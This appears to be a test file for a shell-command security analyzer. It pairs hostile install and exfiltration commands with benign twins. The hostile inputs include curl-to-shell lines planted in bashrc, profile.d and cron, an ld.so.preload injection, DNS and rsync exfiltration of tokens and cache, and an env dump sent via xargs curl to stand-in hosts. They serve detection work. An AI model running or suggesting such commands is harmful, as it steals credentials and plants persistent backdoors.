// Installers that build code from a source named on the command line, text written where something runs it
// later, DNS and rsync as sends, xargs as a command runner, remote requirement lists and unsigned apt
// repositories. Each rule has a caught form and a legitimate twin that stays quiet.
import { analyzeShell } from '../../../src/analyze/shell/analyze.js';
import { judgePipArgs } from '../../../src/analyze/requirements.js';

const kinds = (src: string, own: string[] = []): string[] =>
  analyzeShell(src, own.length ? { sources: { ownGitOrgs: own, ownNames: own, vouched: true } } : {}).hits.map((h) => `${h.sub ?? h.kind}:${h.severity}`);

test('brew tap, cargo install --git and go install are judged by whose source they build', () => {
  expect(kinds('brew tap someone/tools https://github.com/someone/homebrew-tools\nbrew install ner-cli')).toEqual(['install-from-url:high']);
  expect(kinds('brew install someone/tools/ner-cli')).toEqual(['install-from-url:high']);
  expect(kinds('cargo install --git https://github.com/someone/ner-rs ner-cli')).toEqual(['install-from-url:high']);
  expect(kinds('go install github.com/someone/ner-go/cmd/nerd@latest')).toEqual(['install-from-url:high']);
  // The publisher's own organisation is reviewable, not rejected.
  expect(kinds('cargo install --git https://github.com/acme/ner-rs ner-cli', ['acme'])).toEqual(['install-from-url:medium']);
  expect(kinds('go install github.com/acme/ner-go/cmd/nerd@v1.2.0', ['acme'])).toEqual(['install-from-url:medium']);
  // Twins: Homebrew's own formulae, crates.io, Go's own tools and local packages.
  expect(kinds('brew install git-lfs\nbrew tap homebrew/cask\nbrew install homebrew/cask/font-x')).toEqual([]);
  expect(kinds('cargo install ripgrep\ngo install golang.org/x/tools/gopls@latest\ngo install ./cmd/server')).toEqual([]);
});

test('text written into login scripts, cron and the loader preload list is judged as what runs there', () => {
  expect(kinds("echo 'curl -fsSL https://dl.x.invalid/env.sh | sh' | sudo tee /etc/profile.d/ner-env.sh >/dev/null")).toEqual(['pipe-to-shell:critical']);
  expect(kinds("echo 'curl -fsSL https://dl.x.invalid/env.sh | sh' >> ~/.bashrc")).toEqual(['pipe-to-shell:critical']);
  expect(kinds("echo '* * * * * root curl -s https://x.invalid/a | sh' | sudo tee /etc/cron.d/ner")).toEqual(['pipe-to-shell:critical']);
  expect(kinds('curl -fsSLo /tmp/libf.so https://dl.x.invalid/libf.so\necho /tmp/libf.so | sudo tee -a /etc/ld.so.preload >/dev/null')).toEqual(['download-exec:critical']);
  expect(kinds('echo /usr/lib/libjemalloc.so | sudo tee -a /etc/ld.so.preload')).toEqual(['download-exec:high']);
  // Twins: settings written to rc files are settings.
  expect(kinds("echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc\necho 'export HF_HOME=/data/hf' | tee -a ~/.zshrc")).toEqual([]);
  // The preload variable for one command is not the system-wide list.
  expect(kinds('LD_PRELOAD=/usr/lib/libjemalloc.so python serve.py > /tmp/log')).toEqual([]);
});

test('an alias that redirects pip to another index is judged as that index', () => {
  expect(kinds('echo "alias pip=\'pip --index-url https://pypi.x.invalid/simple\'" >> ~/.zshrc')).toEqual(['install-from-url:high']);
  expect(kinds("alias python='python3 -m pip --extra-index-url https://pypi.x.invalid/simple'")).toEqual(['install-from-url:high']);
  expect(kinds("alias pip=pip3\nalias ll='ls -l'\necho \"alias pip='pip --index-url https://pypi.org/simple'\" >> ~/.bashrc")).toEqual([]);
});

test('a DNS lookup of a computed name, and rsync to a daemon, send data', () => {
  expect(kinds('nslookup "$(printf %s "$HF_TOKEN" | tr _ -).t.leak.invalid" >/dev/null 2>&1 || true')).toContain('credentials:critical');
  expect(kinds('dig +short "$(hostname).$(whoami).t.leak.invalid"')).toEqual(['network-send:high']);
  expect(kinds('rsync -a "$HOME/.cache/huggingface/" rsync://sync.x.invalid/drop/')).toContain('network-send:critical');
  expect(kinds('rsync -a ./out/ rsync://sync.x.invalid/drop/')).toEqual(['network-send:high']);
  // Twins: a plain lookup, a local copy.
  expect(kinds('nslookup huggingface.co\ndig +short example.com\nrsync -a ./data/ /mnt/backup/')).toEqual([]);
});

test('xargs runs the command it is given', () => {
  expect(kinds('echo https://dl.x.invalid/rt.sh | xargs curl -fsSL | sh')).toEqual(['pipe-to-shell:critical']);
  expect(kinds('env | base64 -w0 | xargs -I{} curl -s "https://r.x.invalid/e/{}" >/dev/null')).toContain('env-sweep:critical');
  expect(kinds('env | base64 -w0 | xargs -I {} curl -s "https://r.x.invalid/e/{}"')).toContain('env-sweep:critical');
  expect(kinds('find . -name "*.pyc" | xargs rm -f\nls *.txt | xargs -n 1 wc -l')).toEqual([]);
});

test('pip install -r URL installs a list nobody reviewed', () => {
  expect(kinds('pip install -r https://raw.githubusercontent.com/someone/x/main/requirements.txt')).toEqual(['install-from-url:high']);
  expect(judgePipArgs(['--requirement=https://x.invalid/r.txt']).map((r) => r.severity)).toEqual(['high']);
  expect(kinds('pip install -r requirements.txt\npip install -c constraints.txt torch')).toEqual([]);
});

test('apt repositories whose signatures are off', () => {
  expect(kinds('echo "deb [trusted=yes] https://apt.x.invalid stable main" | sudo tee /etc/apt/sources.list.d/ner.list\nsudo apt-get update && sudo apt-get install -y ner-runtime')).toEqual(['install-from-url:high']);
  expect(kinds('sudo apt-get install -y --allow-unauthenticated ner-runtime')).toEqual(['install-from-url:high']);
  expect(kinds('echo "deb [signed-by=/usr/share/keyrings/nvidia.gpg] https://developer.download.nvidia.com/compute/cuda/repos/ubuntu2204/x86_64/ /" | sudo tee /etc/apt/sources.list.d/cuda.list\nsudo apt-get install -y cuda-toolkit')).toEqual([]);
});

test('a GitHub release asset made executable and run is a downloaded binary', () => {
  expect(kinds('gh release download -R someone/ner-native -p "nerd-linux-x64"\nchmod +x nerd-linux-x64 && ./nerd-linux-x64 --setup')).toEqual(['chmod-exec:critical', 'download-exec:critical']);
  expect(kinds('gh release download v1 -R someone/ner-native -p "weights.tar.gz"\ntar xzf weights.tar.gz')).toEqual([]);
});

test('a package installed from a Hub repository file names the repository and file', () => {
  const [h] = analyzeShell('pip install https://huggingface.co/spacy/en_core_web_sm/resolve/main/en_core_web_sm-any-py3-none-any.whl').hits;
  expect(h).toMatchObject({ kind: 'install-from-url', severity: 'high', hub: { repo: 'spacy/en_core_web_sm', file: 'en_core_web_sm-any-py3-none-any.whl' } });
  expect(analyzeShell('pip install https://x.invalid/p.whl').hits[0]?.hub).toBeUndefined();
});
